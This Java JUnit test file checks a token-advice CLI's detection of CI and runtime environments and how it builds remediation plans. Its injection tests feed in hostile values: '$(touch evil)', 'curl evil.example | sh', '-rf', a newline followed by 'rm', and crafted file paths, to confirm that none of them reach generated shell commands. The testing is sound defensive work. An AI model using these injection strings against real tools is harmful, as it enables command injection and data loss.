package dev.chainloop.token.advice;

import static org.junit.jupiter.api.Assertions.*;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.chainloop.token.core.Keyword;
import dev.chainloop.token.source.Place;
import dev.chainloop.token.testing.CliRun;
import dev.chainloop.token.testing.Golden;
import dev.chainloop.token.testing.Markdown;
import dev.chainloop.token.testing.Payload;
import dev.chainloop.token.testing.TestWorld;
import dev.chainloop.token.testing.TokenMint;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Where a plan is for, and what the page topics.md says about the places. */
final class AdviceTest {
    private static final Path PAGE = Path.of("src/site/markdown/topics.md");

    @TempDir
    Path home;

    static final List<String> PLACES = Keyword.words(List.copyOf(EnumSet.complementOf(EnumSet.of(Place.ELSEWHERE))));

    /** As {@code states.txt} has them. */
    @ParameterizedTest
    @FieldSource("PLACES")
    void aPlaceIsKnown(String place) throws IOException {
        assertEquals(place, place("in: " + place));
    }

    private String place(String world) throws IOException {
        String[] lines = (world + "; variable: @API expired@").split("; ");
        return planOf(TestWorld.of(lines).run(home, "-o", "json")).path("place").asText();
    }

    private static JsonNode planOf(CliRun.Result result) {
        return Payload.read(result.out()).path("plan");
    }

    /** Most CI systems also set what CI goes by, so only a place that is not a CI system may come after it. */
    @Test
    void noSignOfAPlaceHidesAnother() {
        assertEquals(
                "[POD, CONTAINER, SERVICE, JOB, SSH, TERMINAL, ELSEWHERE]",
                EnumSet.complementOf(EnumSet.range(Place.DAGGER, Place.CI)).toString());
    }

    /** Each sign alone, the signs that others set, too, and those that a person sets by hand. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            dagger    | env: CHAINLOOP_DAGGER_CLIENT=1; env: GITHUB_ACTIONS=true
            github    | env: GITHUB_ACTIONS=true
            github    | env: GITHUB_ACTIONS=true; env: ACT=false
            ci        | env: GITHUB_ACTIONS=true; env: ACT=true
            ci        | env: GITHUB_ACTIONS=true; env: GITEA_ACTIONS=true
            ci        | env: GITHUB_ACTIONS=true; env: FORGEJO_ACTIONS=true
            gitlab    | env: GITLAB_CI=true
            azure     | env: TF_BUILD=True
            jenkins   | env: JENKINS_HOME=/var; env: BUILD_URL=https://ci.example/1
            jenkins   | env: JENKINS_URL=https://ci.example
            circleci  | env: CIRCLECI=true
            teamcity  | env: TEAMCITY_PROJECT_NAME=web
            teamcity  | env: TEAMCITY_VERSION=2026.1
            tekton    | machine: unattended; machine: /tekton/results
            ci        | env: CHAINLOOP_SANDBOX=1; machine: unattended
            terminal  | env: CI=true
            job       | env: CI=false; machine: unattended
            pod       | env: KUBERNETES_SERVICE_HOST=10.0.0.1
            ssh       | env: container=podman
            ssh       | machine: /run/.containerenv
            ssh       | env: SSH_TTY=/dev/pts/1
            ssh       | env: SSH_CONNECTION=1
            terminal  | env: INVOCATION_ID=1; env: JENKINS_HOME=/var
            terminal  | env: GITLAB_CI=false; env: TF_BUILD=False; env: CIRCLECI=FALSE
            """)
    void aSignIsWeighed(String place, String world) throws IOException {
        assertEquals(place, place(world));
    }

    // ---------- the place that the user names

    static final List<String> NAMED = Keyword.words(List.copyOf(EnumSet.range(Place.DAGGER, Place.JOB)));

    /** The plan covers both unset and empty, and uses nothing that is known here: neither the repository nor a variable. */
    @ParameterizedTest
    @FieldSource("NAMED")
    void aNamedPlaceHasItsOwnWords(String place) throws IOException {
        JsonNode plan = planOf(TestWorld.of("in: github", "variable:").run(home, "--in", place, "-o", "json"));
        assertEquals(place, plan.path("place").asText());
        if (!place.equals("github")) {
            String all = plan.toString();
            assertFalse(all.contains("acme/web"), all);
            assertTrue(all.contains("If the command ran without CHAINLOOP_TOKEN: "), all);
            assertTrue(all.contains("If CHAINLOOP_TOKEN was empty: "), all);
        }
    }

    /** Where it failed changes no status and no fact, and no finding but those about places, which states.txt has. */
    @ParameterizedTest
    @CsvSource({"API expired, inspect", "API iat=now-1d exp=now+3h, check"})
    void aNamedPlaceChangesThePlanAlone(String token, String command) throws IOException {
        TestWorld world = TestWorld.of("variable: @" + token + "@");
        CliRun.Result here = world.run(home, command, "-o", "json");
        CliRun.Result there = world.run(home, command, "-o", "json", "--in", "gitlab");
        assertEquals(here.status(), there.status());
        assertEquals(withoutPlan(here), withoutPlan(there));
    }

    private static JsonNode withoutPlan(CliRun.Result result) {
        return ((ObjectNode) Payload.read(result.out())).without("plan");
    }

    /** Only the user knows where a token from stdin is kept: nothing is stored, and the last line says how to name it. */
    @ParameterizedTest
    @CsvSource({"API expired, true", "API iat=now-7d exp=now+1h, true", "API, false"})
    void aTokenFromStdinIsStoredNowhere(String token, boolean planned) throws IOException {
        TestWorld world = TestWorld.of("$ -", "stdin: @" + token + "@\\n");
        String out = world.run(home).out();
        assertEquals(planned, out.endsWith("add `--in github` (gitlab, pod, …).\n"), out);
        assertFalse(out.contains("export ") || out.contains("gh secret"), out);
        String there = world.run(home, "--in", "github").out();
        assertEquals(planned, there.contains("gh secret set CHAINLOOP_TOKEN --repo OWNER/REPO"), there);
        assertFalse(there.contains("--in "), there);
    }

    // ---------- what stands in a command

    /** Anybody can write a token: a claim that is neither a name nor a UUID becomes a placeholder in a command. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "a$(touch evil)b",
                "`evil`",
                "evil; curl evil.example | sh",
                "-rf evil",
                "--evil",
                "evil\\nrm evil",
                "\\u001b[31mevil",
                "evil' 'evil",
                "../evil",
                "EVIL"
            })
    void aHostileClaimIsInNoCommand(String claim) throws IOException {
        List<String> commands = List.of(
                "inspect",
                "check",
                "sources",
                "explain 'API token revoked'",
                "explain 'valid only with the project'",
                "inspect --in pod",
                "inspect --redact");
        String claims = " jti=\"%1$s\" token_name=\"%1$s\" org_name=\"%1$s\" project_name=\"%1$s\"".formatted(claim);
        for (String end : List.of(" expired", " exp=now+1h")) {
            // Not by a line, because what is in a world is unescaped.
            String token = TokenMint.described("API" + end + claims);
            for (String place : PLACES) {
                for (String command : commands) {
                    TestWorld world = TestWorld.of("in: " + place, "$ " + command + " -o json");
                    CliRun.Result result =
                            world.in(home).env("CHAINLOOP_TOKEN", token).run(world.arguments(home));
                    for (JsonNode step : planOf(result).path("steps")) {
                        String lines = step.path("run").toString() + step.path("put");
                        assertFalse(lines.toLowerCase(Locale.ROOT).contains("evil"), lines);
                    }
                }
            }
        }
        String token = TokenMint.described("API expired" + claims);
        String text = TestWorld.of("in: github")
                .in(home)
                .env("CHAINLOOP_TOKEN", token)
                .run()
                .out();
        for (String line : text.lines().filter(one -> one.startsWith("    ")).toList()) {
            assertFalse(line.toLowerCase(Locale.ROOT).contains("evil"), text);
        }
        assertTrue(text.contains(" --id ID --org ORG"), text);
    }

    @ParameterizedTest
    @CsvSource({
        "https://github.acme.example:8443, acme/web, github.acme.example:8443/acme/web",
        "https://github.example/$(evil), acme/web, OWNER/REPO",
        "https://github.com, acme/web;evil, OWNER/REPO",
        "https://github.com, -R/evil, OWNER/REPO",
        "https://github.com, ~root/evil, OWNER/REPO",
    })
    void aRepositoryIsNamedWithItsHost(String server, String repository, String named) throws IOException {
        String plan = TestWorld.of(
                        "in: github",
                        "variable: @API expired@",
                        "env: GITHUB_REPOSITORY=" + repository,
                        "env: GITHUB_SERVER_URL=" + server)
                .run(home, "-o", "json")
                .out();
        assertTrue(plan.contains("gh secret set CHAINLOOP_TOKEN --repo " + named + "\""), plan);
    }

    @Test
    void aPathIsNotAnOptionAndNoCharacterOfItIsHidden() {
        Optional<Path> none = Optional.empty();
        assertEquals("./-rf", ShellWord.ofPath("-rf", none));
        assertEquals("'./- x'", ShellWord.ofPath("- x", none));
        assertEquals("FILE", ShellWord.ofPath("/tmp/a\nb", none));
        // fish reads it as an escape within quotes, so that the name could end them.
        assertEquals("FILE", ShellWord.ofPath("/tmp/a\\';touch b;#.toml", none));
        assertEquals("FILE", ShellWord.ofPath("/tmp/\u202eb", none));
        assertEquals("'/tmp/a$(b)'", ShellWord.ofPath("/tmp/a$(b)", none));
        assertEquals("~/'a'\\''b'", ShellWord.ofPath("/root/a'b", Optional.of(Path.of("/root"))));
    }

    // ---------- the page

    @Test
    void thePageHasThePlaces() throws IOException {
        List<String> rows = new ArrayList<>();
        for (Place place : Place.values()) {
            boolean named = place != Place.ELSEWHERE;
            rows.add(Markdown.row(
                    place.title,
                    named ? "`" + place.word() + "`" : "",
                    place.isAttended() ? "yes" : "no",
                    SecretStore.of(place).kept()));
        }
        String heading = "| place | `--in` | a person can log in | where the token is kept |";
        Golden.check(PAGE, Markdown.with(PAGE, heading, rows));
    }
}
